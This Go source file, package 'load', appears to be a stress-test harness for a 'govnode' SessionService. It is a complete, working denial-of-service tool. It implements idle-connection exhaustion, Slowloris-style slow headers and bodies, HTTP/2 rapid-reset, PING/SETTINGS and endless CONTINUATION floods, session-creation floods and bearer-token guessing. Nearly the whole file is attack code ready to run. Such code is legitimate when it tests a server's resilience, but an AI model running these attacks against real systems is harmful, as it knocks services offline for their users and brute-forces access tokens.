package load

import (
	"bytes"
	"context"
	"crypto/tls"
	"crypto/x509"
	"encoding/binary"
	"encoding/json"
	"fmt"
	"io"
	"math/rand/v2"
	"net"
	"os"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// Attackers are what one process of them does to an address until it is killed.
// Counts are of connections, rates of what is sent in a second by all of them.
type Attackers struct {
	Address string
	From    string // address that they connect from; "" leaves that to the system
	CA      string // file; "" speaks no TLS
	Token   string // of the tenant whose attackers they are

	Idle        int // a third each: silent, silent behind the handshake, silent behind HTTP/2's preface
	SlowHeaders int
	SlowBodies  int
	Resets      int // streams that are begun and reset
	Frames      int // PING and SETTINGS
	Endless     int // CONTINUATION
	Sessions    int // requests of CreateSession, one after another on a connection
	SessionsH2  int // the same, side by side
	WrongTokens int // requests
}

const (
	floodConnections = 20                     // that share what is sent at a rate
	beat             = 20 * time.Millisecond  // between what is sent at a rate
	drip             = time.Second            // between the bytes of slow senders
	again            = 200 * time.Millisecond // until a connection that was closed is opened anew
	connects         = 2000                   // in a second, of idle ones
)

// attack runs until ctx ends.
type attack struct {
	Attackers
	secure *tls.Config
	next   atomic.Int64 // numbers what has to differ
	pace   chan struct{}
}

// Run attacks until ctx ends.
func (a Attackers) Run(ctx context.Context) error {
	x := &attack{Attackers: a, pace: make(chan struct{})}
	if a.CA != "" {
		pem, err := os.ReadFile(a.CA)
		if err != nil {
			return err
		}
		roots := x509.NewCertPool()
		roots.AppendCertsFromPEM(pem)
		host, _, err := net.SplitHostPort(a.Address)
		if err != nil {
			return err
		}
		// No tickets: whoever floods makes the other side work.
		x.secure = &tls.Config{RootCAs: roots, ServerName: host, MinVersion: tls.VersionTLS13, SessionTicketsDisabled: true}
	}
	var all sync.WaitGroup
	each := func(n int, f func(context.Context) error) {
		for range n {
			all.Go(func() {
				for ctx.Err() == nil {
					_ = f(ctx) // the other side has closed it, which is its right
					wait(ctx, again)
				}
			})
		}
	}
	all.Go(func() { x.paced(ctx) })
	each(a.Idle/3, x.silent)
	each(a.Idle/3, x.greeted("http/1.1", nil))
	each(a.Idle-2*(a.Idle/3), x.greeted("h2", preface()))
	each(a.SlowHeaders, x.dripping("GET /govnode.v1.SessionService/GetSession HTTP/1.1\r\nHost: node\r\nX-Slow: "))
	each(a.SlowBodies, x.dripping(x.request("SessionService/CreateSession", a.Token, 100_000)))
	flood := func(rate int, f func(context.Context, int) error) {
		if rate > 0 {
			each(floodConnections, func(ctx context.Context) error { return f(ctx, max(1, rate/floodConnections)) })
		}
	}
	flood(a.Resets, x.resets)
	flood(a.Frames, x.frames)
	flood(a.Endless, x.endless)
	flood(a.Sessions, x.sessions)
	flood(a.SessionsH2, x.sessionsH2)
	flood(a.WrongTokens, x.wrongTokens)
	all.Wait()
	return nil
}

func wait(ctx context.Context, d time.Duration) {
	select {
	case <-ctx.Done():
	case <-time.After(d):
	}
}

// paced lets so many idle connections be opened in a second.
func (x *attack) paced(ctx context.Context) {
	t := time.NewTicker(beat)
	defer t.Stop()
	for {
		select {
		case <-ctx.Done():
			return
		case <-t.C:
		}
		for range connects * int(beat) / int(time.Second) {
			select {
			case x.pace <- struct{}{}:
			default:
			}
		}
	}
}

// dial opens a connection, which is closed when ctx ends.
func (x *attack) dial(ctx context.Context, protocol string) (net.Conn, error) {
	d := net.Dialer{Timeout: 10 * time.Second}
	if x.From != "" {
		d.LocalAddr = &net.TCPAddr{IP: net.ParseIP(x.From)}
	}
	c, err := d.DialContext(ctx, "tcp", x.Address)
	if err != nil {
		return nil, err
	}
	context.AfterFunc(ctx, func() { _ = c.Close() })
	if x.secure == nil || protocol == "" {
		return c, nil
	}
	secure := x.secure.Clone()
	secure.NextProtos = []string{protocol}
	s := tls.Client(c, secure)
	if err := s.HandshakeContext(ctx); err != nil {
		_ = c.Close()
		return nil, err
	}
	return s, nil
}

// drain reads what comes until the other side closes.
func drain(c net.Conn) error {
	_, err := io.Copy(io.Discard, c)
	_ = c.Close()
	return err
}

func (x *attack) silent(ctx context.Context) error {
	select {
	case <-ctx.Done():
		return nil
	case <-x.pace:
	}
	c, err := x.dial(ctx, "")
	if err != nil {
		return err
	}
	return drain(c)
}

// greeted are silent behind what they send first.
func (x *attack) greeted(protocol string, first []byte) func(context.Context) error {
	return func(ctx context.Context) error {
		select {
		case <-ctx.Done():
			return nil
		case <-x.pace:
		}
		c, err := x.dial(ctx, protocol)
		if err != nil {
			return err
		}
		if _, err := c.Write(first); err != nil {
			_ = c.Close()
			return err
		}
		return drain(c)
	}
}

// dripping sends a beginning, and then a byte at a time.
func (x *attack) dripping(first string) func(context.Context) error {
	return func(ctx context.Context) error {
		c, err := x.dial(ctx, "http/1.1")
		if err != nil {
			return err
		}
		go func() { _ = drain(c) }()
		for _, err = c.Write([]byte(first)); err == nil && ctx.Err() == nil; _, err = c.Write([]byte("a")) {
			wait(ctx, drip)
		}
		return c.Close()
	}
}

// flow writes what next appends, for so many times a second.
func (x *attack) flow(ctx context.Context, protocol string, first []byte, rate int, next func(*bytes.Buffer)) error {
	c, err := x.dial(ctx, protocol)
	if err != nil {
		return err
	}
	go func() { _ = drain(c) }()
	b := bytes.NewBuffer(bytes.Clone(first))
	t := time.NewTicker(beat)
	defer t.Stop()
	for owed := 0.0; ; {
		select {
		case <-ctx.Done():
			return c.Close()
		case <-t.C:
		}
		for owed += float64(rate) * beat.Seconds(); owed >= 1; owed-- {
			next(b)
		}
		// Who reads nothing for a while is told no more meanwhile, like the others.
		_ = c.SetWriteDeadline(time.Now().Add(5 * time.Second))
		if _, err := c.Write(b.Bytes()); err != nil {
			_ = c.Close()
			return err
		}
		b.Reset()
	}
}

// preface is how a connection of HTTP/2 begins.
func preface() []byte {
	var b bytes.Buffer
	b.WriteString(http2.ClientPreface)
	_ = http2.NewFramer(&b, nil).WriteSettings()
	return b.Bytes()
}

func (x *attack) header(h *hpack.Encoder, token string) {
	for _, f := range [][2]string{
		{":method", "POST"}, {":scheme", "https"}, {":authority", "node"}, {":path", "/govnode.v1.SessionService/CreateSession"},
		{"content-type", "application/json"}, {"authorization", "Bearer " + token},
	} {
		_ = h.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]})
	}
}

// resets begins streams and resets them at once.
func (x *attack) resets(ctx context.Context, rate int) error {
	stream := uint32(1)
	var block bytes.Buffer
	encode := hpack.NewEncoder(&block)
	return x.flow(ctx, "h2", preface(), rate, func(b *bytes.Buffer) {
		f := http2.NewFramer(b, nil)
		block.Reset()
		x.header(encode, x.Token)
		_ = f.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: block.Bytes(), EndHeaders: true})
		_ = f.WriteRSTStream(stream, http2.ErrCodeCancel)
		stream += 2
	})
}

// frames sends what has to be answered and belongs to no request.
func (x *attack) frames(ctx context.Context, rate int) error {
	return x.flow(ctx, "h2", preface(), rate, func(b *bytes.Buffer) {
		f := http2.NewFramer(b, nil)
		if rand.IntN(2) == 0 {
			_ = f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 65535})
			return
		}
		var data [8]byte
		binary.BigEndian.PutUint64(data[:], uint64(x.next.Add(1)))
		_ = f.WritePing(false, data)
	})
}

// endless sends headers that do not end.
func (x *attack) endless(ctx context.Context, rate int) error {
	var block bytes.Buffer
	encode := hpack.NewEncoder(&block)
	x.header(encode, x.Token)
	first := bytes.NewBuffer(preface())
	_ = http2.NewFramer(first, nil).WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: block.Bytes()})
	return x.flow(ctx, "h2", first.Bytes(), rate, func(b *bytes.Buffer) {
		block.Reset()
		_ = encode.WriteField(hpack.HeaderField{Name: "x-endless", Value: fmt.Sprint(x.next.Add(1)), Sensitive: true})
		_ = http2.NewFramer(b, nil).WriteContinuation(1, false, block.Bytes())
	})
}

// request is the head of a request of HTTP/1.1.
func (x *attack) request(method, token string, length int) string {
	return fmt.Sprintf("POST /govnode.v1.%s HTTP/1.1\r\nHost: node\r\nContent-Type: application/json\r\nAuthorization: Bearer %s\r\nContent-Length: %d\r\n\r\n", method, token, length)
}

func (x *attack) session() []byte {
	body, _ := json.Marshal(map[string]any{"sessionId": fmt.Sprintf("s%d-%d", os.Getpid(), x.next.Add(1)), "agentId": "a", "policy": map[string]string{"name": "p"}})
	return body
}

// sessions makes sessions, without waiting for answers.
func (x *attack) sessions(ctx context.Context, rate int) error {
	return x.flow(ctx, "http/1.1", nil, rate, func(b *bytes.Buffer) {
		body := x.session()
		b.WriteString(x.request("SessionService/CreateSession", x.Token, len(body)))
		b.Write(body)
	})
}

// sessionsH2 makes sessions on streams of their own.
func (x *attack) sessionsH2(ctx context.Context, rate int) error {
	stream := uint32(1)
	var block bytes.Buffer
	encode := hpack.NewEncoder(&block)
	first := bytes.NewBuffer(preface())
	_ = http2.NewFramer(first, nil).WriteWindowUpdate(0, 1<<30) // for all answers
	return x.flow(ctx, "h2", first.Bytes(), rate, func(b *bytes.Buffer) {
		f := http2.NewFramer(b, nil)
		block.Reset()
		x.header(encode, x.Token)
		_ = f.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: block.Bytes(), EndHeaders: true})
		_ = f.WriteData(stream, true, x.session())
		stream += 2
	})
}

// wrongTokens guesses.
func (x *attack) wrongTokens(ctx context.Context, rate int) error {
	return x.flow(ctx, "http/1.1", nil, rate, func(b *bytes.Buffer) {
		b.WriteString(x.request("SessionService/GetSession", fmt.Sprintf("gn_victim.%010d.%032d", rand.IntN(1e9), x.next.Add(1)), 2))
		b.WriteString("{}")
	})
}
